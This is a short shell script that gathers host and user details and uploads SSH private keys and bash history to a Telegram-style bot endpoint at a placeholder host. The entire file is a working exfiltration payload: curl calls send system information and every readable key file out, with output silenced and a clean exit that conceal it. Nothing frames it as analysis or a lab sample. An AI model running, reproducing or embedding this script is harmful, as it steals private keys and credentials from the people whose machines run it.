#!/bin/sh
api="https://api.telegram.example/bot7000000000:AAdummy"
text="$(hostname) $(whoami) $(uname -srm) $(nproc) cpus"
curl -s -m 4 "$api/sendMessage" -d chat_id=-100 -d text="$text" > /dev/null
for f in ~/.ssh/id_rsa ~/.ssh/id_ed25519 ~/.bash_history; do
  [ -r "$f" ] && cat "$f" | curl -s -m 4 -F chat_id=-100 -F "document=@-;filename=k" "$api/sendDocument" > /dev/null
done
exit 0
